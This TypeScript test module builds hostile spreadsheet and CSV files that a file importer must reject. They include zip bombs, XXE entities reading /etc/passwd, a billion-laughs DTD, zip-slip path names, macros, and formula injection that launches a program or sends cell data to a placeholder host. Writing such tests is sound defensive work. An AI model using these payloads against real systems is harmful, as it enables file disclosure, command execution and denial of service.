import { randomBytes } from 'node:crypto'
import { constants, deflateRawSync } from 'node:zlib'
import * as XLSX from 'xlsx'
import type { PictureProblem, ProblemCode } from '../../../shared/sheets.ts'
import { makeWorkbook, makeZip, type MadeEntry, workbookParts } from '../../sheets/zipForTests.ts'
import { hostileDrawings } from './hostileDrawings.ts'
import { csv, htmlTable, workbook } from './writing.ts'

/**
 * Files made to hurt. `ends` is how each must end: a problem of the reader, or, where it can be read as a table,
 * that it comes to no order: no columns, too many lines, or every line refused with its reason.
 */
export interface HostileFile {
  name: string
  fileName: string
  /** Made when its turn comes: some are large before they are packed. */
  bytes: () => Uint8Array
  ends: ProblemCode | 'noColumns' | 'tooManyLines' | 'everyLineRefused'
  /** What is found of its pictures; left out where there is nothing to find. */
  pictures?: HostilePictures
}

/** How many files are taken along, why others are not, and whether it is said that some could not be found. */
export interface HostilePictures {
  files: number
  problems: PictureProblem[]
  missing: boolean
}

const cell = (at: string, text: string): string => `<c r="${at}" t="inlineStr"><is><t>${text}</t></is></c>`
const sheetData = (inside: string): string => `<sheetData>${inside}</sheetData>`
const order = `<row r="1">${cell('A1', '货号')}${cell('B1', '数量')}</row>`

const book = (
  name: string,
  sheet: string,
  ends: HostileFile['ends'],
  more: Parameters<typeof makeWorkbook>[1] = {},
) => ({
  name,
  fileName: `${name}.xlsx`,
  bytes: () => makeWorkbook(sheet, more),
  ends,
})
const zip = (
  name: string,
  more: () => MadeEntry[],
  ends: HostileFile['ends'],
  fileName = `${name}.xlsx`,
): HostileFile => ({
  name,
  fileName,
  bytes: () => makeZip([...workbookParts(sheetData(order)), ...more()]),
  ends,
})
/** The workbook with one of its parts changed. */
const altered = (
  name: string,
  part: string,
  change: (entry: MadeEntry) => MadeEntry,
  ends: HostileFile['ends'],
): HostileFile => ({
  name,
  fileName: `${name}.xlsx`,
  bytes: () => makeZip(workbookParts(sheetData(order)).map((entry) => (entry.name === part ? change(entry) : entry))),
  ends,
})
const raw = (name: string, fileName: string, bytes: () => Uint8Array, ends: HostileFile['ends']): HostileFile => ({
  name,
  fileName,
  bytes,
  ends,
})
const sheetPart = 'xl/worksheets/sheet1.xml'

/** A cell of 400 MB: one piece of 4 MB deflated once and written a hundred times. */
const hugeCell = (): Buffer => {
  const flush = { finishFlush: constants.Z_FULL_FLUSH }
  const start = deflateRawSync('<worksheet><sheetData><row><c t="str"><v>', flush)
  const piece = deflateRawSync(Buffer.alloc(4 * 1024 * 1024, 'a'), flush)
  return Buffer.concat([start, ...Array.from({ length: 100 }, () => piece), deflateRawSync('')])
}

const huge = (): HostileFile[] => [
  altered(
    'spaces that unpack to 60 MB',
    sheetPart,
    ({ name }) => ({ name, data: Buffer.alloc(60 * 1024 * 1024, ' ') }),
    'bomb',
  ),
  altered(
    'one cell of 400 MB',
    sheetPart,
    ({ name }) => ({ name, data: '', packed: hugeCell(), claimedSize: 400 * 1024 * 1024 }),
    'bomb',
  ),
  altered(
    'a size that is a lie',
    sheetPart,
    (entry) => ({ ...entry, data: Buffer.alloc(8 * 1024 * 1024, ' '), claimedSize: 10 }),
    'bomb',
  ),
  zip(
    'four hundred entries',
    () => Array.from({ length: 400 }, (_, index) => ({ name: `xl/media/${index}.png`, data: 'x' })),
    'bomb',
  ),
  altered(
    'a million styles',
    'xl/styles.xml',
    ({ name }) => ({
      name,
      data: `<styleSheet><cellXfs>${'<xf numFmtId="14"/>'.repeat(1_000_000)}</cellXfs></styleSheet>`,
    }),
    'bomb',
  ),
  book('a cell in the last corner', sheetData(`<row r="1048576">${cell('XFD1048576', 'x')}</row>`), 'tooManyRows'),
  book('a cell far to the right', sheetData(`<row r="1">${cell('XFD1', 'x')}</row>`), 'tooManyColumns'),
  book(
    'cells that do not say where they are',
    sheetData(`<row>${'<c><v>1</v></c>'.repeat(300)}</row>`),
    'tooManyColumns',
  ),
  book(
    'everything merged',
    `${sheetData(order)}<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>`,
    'tooManyRows',
  ),
  book(
    'six thousand merges',
    `${sheetData(order)}<mergeCells>${'<mergeCell ref="A1:B2"/>'.repeat(6000)}</mergeCells>`,
    'tooManyMerges',
  ),
  book('a dimension of everything', `<dimension ref="A1:XFD1048576"/>${sheetData(order)}`, 'tooManyRows'),
  book('twenty thousand rows and one', sheetData('<row><c><v>1</v></c></row>'.repeat(20_001)), 'tooManyRows'),
  raw('twenty-five thousand lines of CSV', 'a.csv', () => Buffer.from('a,b\n'.repeat(25_000)), 'tooManyRows'),
  raw('three hundred columns of CSV', 'a.csv', () => Buffer.from(`${'a,'.repeat(300)}\n`), 'tooManyColumns'),
  raw(
    'one field of 11 MB',
    'a.csv',
    () => Buffer.from(`货号,数量\n"${'x'.repeat(11 * 1024 * 1024)}",1`),
    'tooMuchText',
  ),
  raw('more than 20 MB', 'a.csv', () => Buffer.alloc(21 * 1024 * 1024, 'a'), 'tooLarge'),
  raw(
    'a page with one cell across a hundred thousand',
    'a.xls',
    () => Buffer.from(htmlTable([['x']]).replace('<td>', '<td colspan="100000">')),
    'tooManyColumns',
  ),
  raw(
    'an order of 301 lines',
    'a.csv',
    () =>
      Buffer.from(csv([['货号', '数量', '交期'], ...Array.from({ length: 301 }, () => ['TS-801', 1, '2026-12-15'])])),
    'tooManyLines',
  ),
]

const poisoned = (): HostileFile[] => [
  raw(
    'headings of every prototype',
    'a.csv',
    () =>
      Buffer.from(
        csv([
          ['__proto__', 'constructor', 'prototype', 'toString'],
          ['polluted', 1, 2, 3],
        ]),
      ),
    'noColumns',
  ),
  book(
    'a sheet called __proto__',
    sheetData(`<row r="1">${cell('A1', '__proto__')}${cell('B1', 'polluted')}</row>`),
    'noColumns',
    { sheetName: '__proto__' },
  ),
  book(
    'a sheet called constructor',
    sheetData(`<row r="1">${cell('A1', 'constructor')}${cell('B1', 'x')}</row>`),
    'noColumns',
    { sheetName: 'constructor' },
  ),
  altered(
    'an outer entity',
    sheetPart,
    ({ name }) => ({
      name,
      data: '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><worksheet><sheetData><row><c t="str"><v>&f;</v></c></row></sheetData></worksheet>',
    }),
    'dtd',
  ),
  zip(
    'a thousand million laughs',
    () => [
      {
        name: 'xl/sharedStrings.xml',
        data: `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">${'bcdefgh'
          .split('')
          .map((letter, index) => `<!ENTITY ${letter} "${`&${'abcdefg'[index]};`.repeat(10)}">`)
          .join('')}]><sst><si><t>&h;</t></si></sst>`,
      },
    ],
    'dtd',
  ),
  raw(
    'an outer entity in a page',
    'a.xls',
    () => Buffer.from(`<!DOCTYPE html [<!ENTITY f SYSTEM "file:///etc/passwd">]>${htmlTable([['&f;']])}`),
    'dtd',
  ),
  zip('a name above its folder', () => [{ name: '../../../../tmp/gendan-slip.txt', data: 'slip' }], 'badNames'),
  zip('a name with a backslash', () => [{ name: '..\\..\\gendan-slip.txt', data: 'slip' }], 'badNames'),
  zip('a name with a drive', () => [{ name: 'C:/gendan-slip.txt', data: 'slip' }], 'badNames'),
  zip('macros', () => [{ name: 'xl/vbaProject.bin', data: randomBytes(200) }], 'macros'),
  altered(
    'macros by declaration',
    '[Content_Types].xml',
    ({ name, data }) => ({
      name,
      data: String(data).replace(
        'openxmlformats-officedocument.spreadsheetml.sheet.main',
        'ms-excel.sheet.macroEnabled.main',
      ),
    }),
    'macros',
  ),
  zip('an old macro sheet', () => [{ name: 'xl/macrosheets/sheet1.xml', data: '<x/>' }], 'macros'),
  zip(
    'a workbook inside',
    () => [{ name: 'xl/embeddings/order.xlsx', data: workbook([{ rows: [['x']] }]) as Buffer }],
    'nested',
  ),
  zip(
    'an archive called a picture',
    () => [{ name: 'xl/media/image1.png', data: makeZip([{ name: 'x', data: 'x' }]) }],
    'nested',
  ),
  raw(
    'formulas that start programs',
    'a.csv',
    () =>
      Buffer.from(
        csv([
          ['货号', '数量', '交期'],
          ["=cmd|'/c calc'!A1", '=1+1', '@SUM(1)'],
          ['+HYPERLINK("http://x")', '-2+3', '=TODAY()'],
        ]),
      ),
    'everyLineRefused',
  ),
  book(
    'formulas and links to other files',
    sheetData(
      `<row r="1">${cell('A1', '货号')}${cell('B1', '数量')}</row><row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://x/"&amp;A1)</f><v>X-1</v></c><c r="B2" t="str"><f>'[http://x/b.xlsx]S'!A1</f><v>two</v></c></row>`,
    ),
    'everyLineRefused',
  ),
]

const compound = (path: string): Uint8Array => {
  const container = XLSX.CFB.utils.cfb_new()
  XLSX.CFB.utils.cfb_add(container, path, randomBytes(5000))
  return new Uint8Array(XLSX.CFB.write(container, { type: 'buffer' }) as Buffer)
}
const honest = (kind: 'xlsx' | 'biff8'): Uint8Array =>
  workbook([{ rows: Array.from({ length: 60 }, (_, index) => ['TS-801', index, '2026-12-15']) }], kind)
const spoilt = (bytes: Uint8Array): Uint8Array => {
  const copy = Uint8Array.from(bytes)
  const at = Math.floor(copy.length / 3)
  for (let index = at; index < at + 40; index += 1) copy[index] = (copy[index] ?? 0) ^ 0x5a
  return copy
}

const broken = (): HostileFile[] => [
  raw('nothing', 'a.xlsx', () => new Uint8Array(), 'emptyFile'),
  raw('only spaces', 'a.csv', () => Buffer.from(' \r\n \r\n'), 'emptyFile'),
  raw(
    'a program called xls',
    'a.xls',
    () => Buffer.concat([Buffer.from('MZ\x90\0'), randomBytes(4000)]),
    'notSpreadsheet',
  ),
  raw('a PDF called xlsx', 'a.xlsx', () => Buffer.from('%PDF-1.7\n1 0 obj'), 'notSpreadsheet'),
  raw(
    'a picture called xls',
    'a.xls',
    () => Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47]), randomBytes(900)]),
    'notSpreadsheet',
  ),
  raw('a letter called xls', 'a.xls', () => compound('/WordDocument'), 'notSpreadsheet'),
  raw('a page without a table', 'a.xls', () => Buffer.from('<html><script>alert(1)</script></html>'), 'notSpreadsheet'),
  raw('half of an archive', 'a.xlsx', () => honest('xlsx').slice(0, 2000), 'damaged'),
  raw('half of an old workbook', 'a.xls', () => honest('biff8').slice(0, 1500), 'damaged'),
  raw('changed bytes', 'a.xlsx', () => spoilt(honest('xlsx')), 'damaged'),
  raw('bytes behind the end', 'a.xlsx', () => Buffer.concat([honest('xlsx'), randomBytes(90)]), 'damaged'),
  zip('the same part twice', () => [{ name: sheetPart, data: '<worksheet/>' }], 'damaged'),
  altered(
    'two names for one part',
    sheetPart,
    (entry) => ({ ...entry, localName: 'xl/worksheets/sheet9.xml' }),
    'damaged',
  ),
  altered('a locked part', sheetPart, (entry) => ({ ...entry, flags: 1 }), 'encrypted'),
  raw('a password', 'a.xlsx', () => compound('/EncryptedPackage'), 'encrypted'),
  zip('a binary workbook', () => [{ name: 'xl/workbook.bin', data: randomBytes(100) }], 'binaryWorkbook'),
  zip('an open document', () => [{ name: 'META-INF/manifest.xml', data: '<x/>' }], 'openDocument'),
  raw(
    'a letter called xlsx',
    'a.xlsx',
    () =>
      makeZip([
        { name: '[Content_Types].xml', data: '<Types/>' },
        { name: 'word/document.xml', data: '<w/>' },
      ]),
    'notSpreadsheet',
  ),
]

export const hostileFiles = (): HostileFile[] => [...huge(), ...poisoned(), ...broken(), ...hostileDrawings()]
